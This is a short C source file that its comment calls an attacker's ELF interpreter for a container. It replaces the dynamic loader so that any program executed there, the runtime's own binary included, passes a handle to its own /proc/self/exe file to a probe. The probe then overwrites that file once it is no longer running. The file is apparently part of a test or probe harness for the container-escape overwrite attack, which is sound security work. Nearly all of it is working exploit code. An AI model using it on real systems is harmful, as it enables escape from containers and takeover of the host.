/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An ELF interpreter of the attacker's, to lie where a dynamic program expects its loader. The kernel maps it into any such
 * program that is executed in the container, the runtime's own too, and /proc/self/exe is then that program's file. It keeps
 * a handle of it and starts the probe, which tries to write to it when nobody runs it any more.
 *
 *	cc -static -nostdlib -ffreestanding -fno-stack-protector -Wl,-e,start
 */
#include <asm/unistd.h>

#ifdef __aarch64__
static long call(long nr, long a, long b, long c, long d)
{
	register long x8 __asm__("x8") = nr;
	register long x0 __asm__("x0") = a;
	register long x1 __asm__("x1") = b;
	register long x2 __asm__("x2") = c;
	register long x3 __asm__("x3") = d;

	__asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
	return x0;
}
#else
static long call(long nr, long a, long b, long c, long d)
{
	long result;
	register long r10 __asm__("r10") = d;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return result;
}
#endif

/* The handle is passed on as descriptor 7. */
void start(void)
{
	static const char *const argv[] = { "probe", "attack", "overwrite-handle", "7", "3", 0 };
	long fd = call(__NR_openat, -100, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);

	call(__NR_dup3, fd, 7, 0, 0);
	call(__NR_execve, (long)"/bin/probe", (long)argv, 0, 0);
	call(__NR_exit_group, 3, 0, 0, 0);
	for (;;)
		;
}
